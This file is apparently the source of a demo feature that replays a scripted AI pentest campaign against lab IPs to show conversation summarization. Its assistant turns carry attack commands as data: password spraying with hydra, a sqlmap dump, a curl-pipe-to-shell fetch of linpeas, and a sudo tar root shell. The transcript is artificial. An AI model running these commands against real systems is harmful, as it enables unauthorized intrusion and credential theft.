@@ -1,0 +1,227 @@
+"""The built-in demo agent: a realistic pentest chain written turn by turn, so a newcomer sees it work.
+
+`demo_start(owner=...)` creates a flow "Demo: pentest of 10.10.5.23", gives it small summarizer limits and a
+16k-token model window (so summarization shows within seconds and the window bar means something), then a
+background thread plays campaigns against lab hosts: recon, port scans, web enumeration, credential finds,
+exploitation and privilege escalation, with tool outputs of real sizes (`flows.demo_tools`). Halfway through
+each campaign the agent asks for a manual compaction with focus instructions, as OpenClaw's `/compact` does.
+Every message goes through `flows.services.chain_append`, exactly like a real agent's.
+
+`turn_batches` splits any chain into the batches an agent would send (one complete turn each); the replay
+command uses it too.
+"""
+from __future__ import annotations
+
+import json
+import logging
+import random
+import string
+import threading
+import time
+from dataclasses import dataclass
+from typing import Any, Callable, Iterator
+
+from django.db import close_old_connections, connections
+
+from . import demo_tools as tools
+from .models import Chain, Flow, FlowStatus, ModelWindow
+from .services import agent_create, chain_append, flow_create, settings_override_for, settings_update
+
+__all__ = [
+    "DEMO_MODEL", "DEMO_WINDOW_TOKENS", "DEMO_SETTINGS", "DEMO_HOSTS", "DemoHandle", "demo_start", "demo_stop",
+    "demo_create", "demo_run", "demo_turns", "turn_batches",
+]
+
+log = logging.getLogger(__name__)
+
+DEMO_MODEL = "demo/pentest-agent-16k"
+DEMO_WINDOW_TOKENS = 16_384
+DEMO_MAX_OUTPUT_TOKENS = 2_048
+DEMO_HOSTS = ["10.10.5.23", "10.10.5.24", "10.10.5.31", "10.10.5.42"]
+DEMO_TURN_SECONDS = 2.0  # pause between turns at speed 1 ("the agent thinks")
+DEMO_MAX_CAMPAIGNS = 40  # about 1,200 messages, then the demo flow finishes
+# Small limits so PentAGI's summarization is visible within the first minute of a 16k-window model.
+DEMO_SETTINGS = {"last_sec_bytes": 12 * 1024, "max_bp_bytes": 4 * 1024, "max_qa_sections": 4,
+                 "max_qa_bytes": 24 * 1024, "keep_qa_sections": 1, "keep_recent_tokens": 4_000}
+SYSTEM_PROMPT = (
+    "You are the pentester agent of an authorized security assessment. Scope: the lab network 10.10.5.0/24 only. "
+    "Use the terminal tool for commands and the browser tool for web pages. Record every credential, hash and "
+    "exploited service precisely. Summaries of earlier work appear as results of execute_task_and_return_summary: "
+    "treat them as history and never call that tool yourself."
+)
+
+Message = dict[str, Any]
+
+
+@dataclass
+class DemoHandle:
+    flow_id: int
+    thread: threading.Thread
+    stop: threading.Event
+
+
+_running: dict[int, DemoHandle] = {}
+
+
+def _call_id(rng: random.Random) -> str:
+    return "call_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(24))
+
+
+def _turn(rng: random.Random, thought: str, calls: list[tuple[str, dict[str, Any], str]]) -> list[Message]:
+    """One assistant message with its tool calls, then one result per call."""
+    ids = [_call_id(rng) for _ in calls]
+    ai = {"role": "assistant", "content": thought, "tool_calls": [
+        {"id": cid, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
+        for cid, (name, args, _) in zip(ids, calls)]}
+    return [ai] + [{"role": "tool", "tool_call_id": cid, "name": name, "content": out}
+                   for cid, (name, _, out) in zip(ids, calls)]
+
+
+def _sh(cmd: str) -> dict[str, Any]:
+    return {"input": cmd, "cwd": "/work", "detach": False, "timeout": 600}
+
+
+def demo_turns(rng: random.Random, host: str, *, first: bool) -> Iterator[tuple[str, Any]]:
+    """The steps of one campaign: ("append", [messages]) and ("compact", instructions)."""
+    password = "Acme" + "".join(rng.choice(string.digits) for _ in range(4)) + "!"
+    user = rng.choice(tools.USERS[:4])
+    url = f"http://{host}"
+    start = [{"role": "system", "content": SYSTEM_PROMPT}] if first else []
+    yield "append", start + [{"role": "user", "content": f"Assess {host} (acme-web01) in the lab: enumerate services, "
+                                                         "find weaknesses, prove impact. Stay in scope."}]
+    yield "append", _turn(rng, "Starting with host discovery on the lab subnet.",
+                          [("terminal", _sh("nmap -sn 10.10.5.0/24"), tools.ping_sweep(rng))])
+    yield "append", _turn(rng, f"{host} is up. Full TCP scan with service detection and default scripts.",
+                          [("terminal", _sh(f"nmap -sV -sC -p- -v --min-rate 2000 {host}"), tools.nmap_services(rng, host))])
+    yield "append", [{"role": "assistant", "content": f"{host} exposes SSH 22 (OpenSSH 8.2p1), Apache 2.4.41 on 80, "
+                      "Samba 4.6.2 on 139/445, MySQL 5.7 on 3306 and Tomcat 9.0.31 on 8080. robots.txt disallows "
+                      "/backup/, /admin/ and /dev/. Next: web enumeration."}]
+    yield "append", [{"role": "user", "content": "Enumerate the web services on 80 and 8080 and report anything that "
+                                                 "leaks credentials or source code."}]
+    yield "append", _turn(rng, "Fetching the front page first.",
+                          [("browser", {"url": url + "/", "action": "markdown"}, tools.http_index(rng, host))])
+    yield "append", _turn(rng, "Directory brute force and a nikto scan in parallel.", [
+        ("terminal", _sh(f"gobuster dir -u {url}/ -w /usr/share/wordlists/dirb/common.txt -x php,txt,bak,zip -t 40"),
+         tools.gobuster(rng, url + "/")),
+        ("terminal", _sh(f"nikto -h {url} -Tuning 123bde"), tools.nikto(rng, host, 80))])
+    yield "append", _turn(rng, "The HTML comment and nikto both point at a config backup.",
+                          [("terminal", _sh(f"curl -s {url}/backup/config.php.bak"), tools.config_backup(rng, password))])
+    yield "append", [{"role": "assistant", "content": f"Credential found: svc_web / {password} (MySQL, from "
+                      f"{url}/backup/config.php.bak); the comment says the backup account shares it. /.git/ is exposed too."}]
+    yield "append", [{"role": "user", "content": "Validate those credentials against SSH and the database, and test "
+                                                 "the item page for injection."}]
+    yield "append", _turn(rng, "Spraying the found password over the known users on SSH.",
+                          [("terminal", _sh(f"hydra -L users.txt -p '{password}' ssh://{host} -t 4"),
+                            tools.hydra(rng, host, user, password))])
+    yield "append", _turn(rng, "Testing /item.php?id= for SQL injection.",
+                          [("terminal", _sh(f"sqlmap -u '{url}/item.php?id=1' --batch --dump -T users"),
+                            tools.sqlmap(rng, url + "/item.php?id=1"))])
+    yield "compact", "Focus on the credentials, hashes and exploited services; keep exact hosts and paths."
+    yield "append", _turn(rng, f"Logging in over SSH as {user}.",
+                          [("terminal", _sh(f"sshpass -p '{password}' ssh {user}@{host} 'id; uname -a; ls -la; cat user.txt'"),
+                            tools.ssh_session(rng, host, user))])
+    yield "append", [{"role": "user", "content": "You have a shell. Escalate privileges and collect proof."}]
+    yield "append", _turn(rng, "Running linpeas for privilege escalation vectors.",
+                          [("terminal", _sh("curl -s http://10.10.5.1:8000/linpeas.sh | sh"), tools.linpeas(rng, user))])
+    yield "append", _turn(rng, "sudo allows tar as root without a password: GTFOBins checkpoint trick.",
+                          [("terminal", _sh("sudo -l; sudo tar -cf /dev/null /dev/null --checkpoint=1 "
+                                            "--checkpoint-action=exec=/bin/sh"), tools.sudo_root(rng))])
+    yield "append", [{"role": "assistant", "content": f"Root on {host}. Chain: exposed /backup/config.php.bak → "
+                      f"password reuse ({user} over SSH) → sudo tar (NOPASSWD) → root. Also: SQL injection in "
+                      "/item.php?id (time-based), exposed /.git/, SMB signing not required. Proof collected."}]
+
+
+def demo_create(*, owner, title: str | None = None) -> tuple[Flow, Chain]:
+    """The demo flow, its pentester agent and settings; the demo model's window is registered once."""
+    ModelWindow.objects.get_or_create(model=DEMO_MODEL, defaults={
+        "context_window": DEMO_WINDOW_TOKENS, "max_output_tokens": DEMO_MAX_OUTPUT_TOKENS, "source": "demo"})
+    flow = flow_create(owner=owner, title=title or f"Demo: pentest of {DEMO_HOSTS[0]}", model_name=DEMO_MODEL)
+    agent = agent_create(flow=flow, agent_type="pentester", profile="agent")
+    row = settings_override_for(flow=flow, profile="agent", user=owner)
+    settings_update(row=row, data=DEMO_SETTINGS, user=owner, source="demo")
+    return flow, agent.chains.get(is_active=True)
+
+
+def _set_status(flow_id: int, status: str) -> None:
+    # The demo plays the agent, and agents report their status; there is no other writer of it.
+    Flow.objects.filter(pk=flow_id).update(status=status)
+
+
+def _request_compaction(chain: Chain, instructions: str) -> None:
+    from .services.views import chain_request_compaction
+
+    chain_request_compaction(chain=chain, instructions=instructions, user=None)
+
+
+def demo_run(*, flow: Flow, chain: Chain, speed: float = 1.0, stop: threading.Event | None = None,
+             campaigns: int = DEMO_MAX_CAMPAIGNS, seed: int = 5023,
+             sleep: Callable[[float], None] = time.sleep) -> int:
+    """Play campaigns into the chain (blocking). Returns the number of messages appended."""
+    rng = random.Random(seed)
+    stop = stop or threading.Event()
+    pause = DEMO_TURN_SECONDS / max(speed, 0.01)
+    appended = 0
+    _set_status(flow.pk, FlowStatus.RUNNING)
+    for n in range(campaigns):
+        host = DEMO_HOSTS[n % len(DEMO_HOSTS)]
+        for kind, payload in demo_turns(rng, host, first=(n == 0 and chain.last_seq == 0)):
+            if stop.is_set():
+                _set_status(flow.pk, FlowStatus.WAITING)
+                return appended
+            if kind == "compact":
+                _request_compaction(chain, payload)
+                continue
+            appended += chain_append(chain=chain, messages=payload).appended
+            sleep(pause)
+    _set_status(flow.pk, FlowStatus.FINISHED)
+    return appended
+
+
+def _thread_main(flow_id: int, chain_id: int, speed: float, stop: threading.Event) -> None:
+    try:
+        flow = Flow.objects.get(pk=flow_id)
+        demo_run(flow=flow, chain=Chain.objects.get(pk=chain_id), speed=speed, stop=stop)
+    except Exception:  # a background demo must never take the server down; say why in the log
+        log.exception("demo flow %s stopped with an error", flow_id)
+        close_old_connections()
+        _set_status(flow_id, FlowStatus.FAILED)
+    finally:
+        _running.pop(flow_id, None)
+        connections.close_all()
+
+
+def demo_start(*, owner, speed: float = 1.0) -> Flow:
+    """Create a demo flow and play it in a background thread; returns at once."""
+    flow, chain = demo_create(owner=owner)
+    stop = threading.Event()
+    thread = threading.Thread(target=_thread_main, args=(flow.pk, chain.pk, speed, stop), daemon=True,
+                              name=f"demo-flow-{flow.pk}")
+    _running[flow.pk] = DemoHandle(flow.pk, thread, stop)
+    thread.start()
+    return flow
+
+
+def demo_stop(flow_id: int, *, timeout_seconds: float = 10.0) -> bool:
+    """Ask a running demo to stop after its current turn; True if it was running."""
+    handle = _running.get(flow_id)
+    if handle is None:
+        return False
+    handle.stop.set()
+    handle.thread.join(timeout=timeout_seconds)
+    return True
+
+
+def turn_batches(messages: list[Message]) -> list[list[Message]]:
+    """Split a chain into what an agent sends at once: the opening system/user messages, then each assistant
+    message with the tool results that answer it, and each later user message on its own."""
+    batches: list[list[Message]] = []
+    for m in messages:
+        role = m.get("role")
+        opening = batches and all(x.get("role") in ("system", "user") for x in batches[-1]) and len(batches) == 1
+        if role == "tool" and batches:
+            batches[-1].append(m)
+        elif role in ("system", "user") and opening:
+            batches[-1].append(m)
+        else:
+            batches.append([m])
+    return batches
